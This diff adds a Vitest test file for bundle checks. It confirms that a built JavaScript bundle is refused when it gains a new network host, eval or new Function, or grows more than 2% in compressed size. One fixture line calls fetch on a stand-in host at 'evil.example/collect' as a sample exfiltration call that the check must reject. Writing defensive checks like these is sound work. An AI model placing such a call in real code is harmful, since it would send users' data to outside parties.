@@ -1,0 +1,39 @@
+import { expect, test } from 'vitest'
+import { type Bundle, bundleProblems, measureBundle } from './bundleRules.ts'
+
+const file = (name: string, text: string): Bundle[number] => ({ file: name, text, bytes: Buffer.from(text) })
+const page = file('index.html', '<script type="module" src="/assets/entry.js"></script>')
+const entry = (text: string) => [page, file('assets/entry.js', text), file('assets/later.js', 'export {}')]
+const good = entry('export const musi = 1')
+const committed = measureBundle(good)
+
+test('a bundle that did not change has no problem', () => {
+  expect(bundleProblems(good, committed)).toEqual([])
+})
+
+test.each([
+  ['a new host', 'fetch("https://evil.example/collect")', 'evil.example'],
+  ['eval', 'eval("1")', 'calls eval'],
+  ['new Function', 'new Function("return 1")', 'makes a function from text'],
+])('case 106: %s in the bundle is refused with a sentence', (_, text, sentence) => {
+  const roomy = { ...committed, brotliBytes: { firstLoadScripts: 1e6, allScripts: 1e6, styles: 1e6 } }
+  expect(bundleProblems(entry(text), roomy).join()).toContain(sentence)
+})
+
+test('case 106: growth over 2 % against the committed figure is refused', () => {
+  const grown = Array.from({ length: 400 }, (_, index) => `export const v${index * 7919} = ${index ** 3}`).join('\n')
+  expect(bundleProblems(entry(grown), committed).join()).toContain('more than 2 %')
+})
+
+test('what the entry imports at once counts as first load, what it loads later does not', () => {
+  const bundle = [
+    page,
+    file('assets/entry.js', 'import"./now.js";import("./later.js")'),
+    file('assets/now.js', 'now'),
+    file('assets/later.js', 'later'),
+  ]
+  const without = measureBundle(bundle.filter(({ file }) => file !== 'assets/now.js')).brotliBytes
+  expect(measureBundle(bundle).brotliBytes.firstLoadScripts).toBeGreaterThan(without.firstLoadScripts)
+  const noLater = measureBundle(bundle.filter(({ file }) => file !== 'assets/later.js')).brotliBytes
+  expect(measureBundle(bundle).brotliBytes.firstLoadScripts).toBe(noLater.firstLoadScripts)
+})
